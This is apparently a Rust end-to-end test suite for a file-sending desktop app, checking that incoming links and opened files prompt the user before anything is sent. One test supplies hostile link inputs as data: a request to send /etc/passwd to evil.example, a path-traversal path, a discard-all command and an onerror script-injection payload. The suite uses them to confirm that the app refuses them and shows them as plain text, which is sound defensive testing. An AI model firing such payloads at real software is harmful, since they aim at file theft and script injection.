//! Links and files from elsewhere fill a form and ask: before the user agrees nothing is sent, and nothing of them is believed.

use std::path::Path;

use serde_json::json;
use tests::files::digest;

use crate::{
    app::{App, HiddenApp},
    desktop::Desktop,
    lab::{Lab, with_records},
    scene::{assert_received, assert_same, finished, make_file},
    webdriver::key,
};

/// The link as a browser hands it over: as an argument of another start.
fn follow(desktop: &Desktop, link: &str) {
    HiddenApp::start_another(desktop, &[Path::new(link)]);
}

fn paths_asked(app: &App) -> Vec<String> {
    let script = "return [...document.querySelectorAll('#send li')].map((item) => item.textContent)";
    serde_json::from_value(app.page.run(script, json!([]))).expect("texts")
}

#[test]
fn a_link_asks_and_sends_to_the_saved_destination_only_once_the_user_agrees() {
    let Some(desktop) = Desktop::start() else { return };
    let lab = Lab::start(&desktop);
    with_records(&desktop, async |engine| {
        lab.save(engine, "NAS").await;
    });
    let file = desktop.path("take.mov");
    make_file(&file, 300_000);
    let app = desktop.launch();
    let link = format!("carryon://send?path={}&to=NAS", file.display());
    follow(&desktop, &link);
    app.wait_shown("#send dialog", true);
    assert_eq!(paths_asked(&app), [file.to_str().expect("text")]);
    assert!(app.text("#send .why").starts_with("A link asks for this."), "{}", app.text("#send .why"));
    app.shot(&desktop, "41-link-asks");
    app.page.press(&[key::ESCAPE]);
    app.wait_shown("#send dialog", false);
    assert!(app.rows().is_empty() && !lab.dir.join("take.mov").exists(), "nothing was sent");

    follow(&desktop, &link);
    app.wait_shown("#send dialog", true);
    app.page.click("#send button[type=submit]");
    finished(&app, "take.mov");
    assert_eq!(digest(&file), digest(&lab.dir.join("take.mov")), "it went to the destination that the link named");
    assert_eq!(app.problems(), [""; 0]);
}

#[test]
fn a_hostile_link_is_refused_with_a_sentence_and_its_text_stays_text() {
    let Some(desktop) = Desktop::start() else { return };
    let app = desktop.launch();
    follow(&desktop, "carryon://send?path=/etc/passwd&to=tus%2Bhttps://evil.example/files/");
    app.wait_for_problem(&["no address from a link"]);
    follow(&desktop, "carryon://discard?all=1");
    app.wait_for_problem(&["does not do"]);
    follow(&desktop, "carryon://send?path=/m/..%2Fetc/passwd");
    app.wait_for_problem(&["no file on this computer"]);

    let markup = "/m/<img src=x onerror=document.title='owned'>.mov";
    follow(
        &desktop,
        "carryon://send?path=/m/%3Cimg%20src=x%20onerror=document.title='owned'%3E.mov&to=%3Cb%3Eno%3C/b%3E",
    );
    app.wait_shown("#send dialog", true);
    assert_eq!(paths_asked(&app), [markup], "text is shown as text");
    assert_eq!(app.text("#send .trouble"), "There is no destination “<b>no</b>” here. Choose another one.");
    let send = app.page.run("return document.querySelector('#send button[type=submit]').disabled", json!([]));
    assert_eq!(send, true, "nobody chose a destination yet");
    assert_eq!(app.page.run("return document.title", json!([])), "Carryon");
    assert!(app.rows().is_empty(), "nothing was sent");
}

#[test]
fn files_that_are_opened_with_carryon_are_asked_about_and_those_copied_elsewhere_can_be_pasted() {
    let Some(desktop) = Desktop::start() else { return };
    let (opened, copied) = (desktop.path("opened.mov"), desktop.path("copied # one.mov"));
    make_file(&opened, 20_000);
    make_file(&copied, 30_000);
    let app = desktop.launch_with(&["--ask".as_ref(), &opened]);
    app.wait_shown("#send dialog", true);
    app.page.click("#send button[type=submit]");
    finished(&app, "opened.mov");

    let _owner = desktop.copy_files(&[&copied]);
    app.page.press_with(key::CONTROL, "v");
    finished(&app, "copied # one.mov");
    assert_same(&desktop, &copied, "copied # one.mov");
    assert_received(&desktop, &["copied # one.mov", "opened.mov"]);
}
